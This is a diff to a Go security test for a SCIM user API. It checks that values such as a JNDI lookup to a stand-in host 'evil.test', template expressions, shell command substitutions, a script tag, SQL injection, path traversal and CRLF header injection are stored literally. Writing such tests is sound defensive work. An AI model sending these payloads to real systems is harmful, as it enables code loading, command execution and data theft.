@@ -2,6 +2,7 @@ package security_test
 
 import (
 	"encoding/json"
+	"fmt"
 	"net/url"
 	"strings"
 	"testing"
@@ -124,7 +125,7 @@ func TestNumbersThatDoNotFit(t *testing.T) {
 // attributes, filters and error details.
 func TestSAPScimonoGHSAqjp7_ValuesAreNotTemplates(t *testing.T) {
 	a, run := acme.WithToken(acme.RFC), suite.RunID()
-	for _, text := range []string{
+	for i, text := range []string{
 		"%s%n%d%x%!v(PANIC=", "${7*7}", "${jndi:ldap://evil.test/x}", "{{7*7}}", "{{.}}", "#{7*7}", "<%= 7*7 %>", "$(id)", "`id`", "<script>alert(1)</script>", "'; DROP TABLE users; --",
 		`\..\..\etc`, "../../etc/passwd", "\u202e\u2028\u200b", "a\tb", "ümläut 漢字 🦊", `"quoted"`, "%00%0a", "a,b", "x\r\nSet-Cookie: a=b",
 	} {
@@ -136,13 +137,13 @@ func TestSAPScimonoGHSAqjp7_ValuesAreNotTemplates(t *testing.T) {
 		if err != nil {
 			t.Fatal(err)
 		}
-		created := a.Call(t, "POST", "/Users", `{"userName":`+string(name)+`,"displayName":`+string(quoted)+`}`).WantStatus(201)
+		created := a.Call(t, "POST", "/Users", fmt.Sprintf(`{"userName":"template-%d-%s","externalId":%s,"userType":%s}`, i, run, name, quoted)).WantStatus(201)
 		id := created.Text("id")
 		t.Cleanup(func() { a.Delete(t, "/Users/"+id) })
-		for _, got := range []*suite.Response{created, a.Call(t, "GET", "/Users/"+id, nil).WantStatus(200), a.Call(t, "PATCH", "/Users/"+id, suite.PatchBody(`{"op":"add","path":"title","value":`+string(quoted)+`}`)).WantStatus(200).Want("title", text)} {
-			got.Want("userName", text+run).Want("displayName", text)
+		for _, got := range []*suite.Response{created, a.Call(t, "GET", "/Users/"+id, nil).WantStatus(200), a.Call(t, "PATCH", "/Users/"+id, suite.PatchBody(`{"op":"add","path":"timezone","value":`+string(quoted)+`}`)).WantStatus(200).Want("timezone", text)} {
+			got.Want("externalId", text+run).Want("userType", text)
 		}
-		found := a.Call(t, "POST", "/Users/.search", `{"schemas":["`+suite.SearchURN+`"],"filter":`+asText(`userName eq `+string(name))+`}`).WantStatus(200).Want("totalResults", 1)
+		found := a.Call(t, "POST", "/Users/.search", `{"schemas":["`+suite.SearchURN+`"],"filter":`+asText(`externalId eq `+string(name))+`}`).WantStatus(200).Want("totalResults", 1)
 		found.Want("Resources.0.id", id)
 		// Details quote values of the request.
 		unknown := a.Call(t, "POST", "/Users", `{"userName":"x`+run+`",`+string(quoted)+`:1}`)
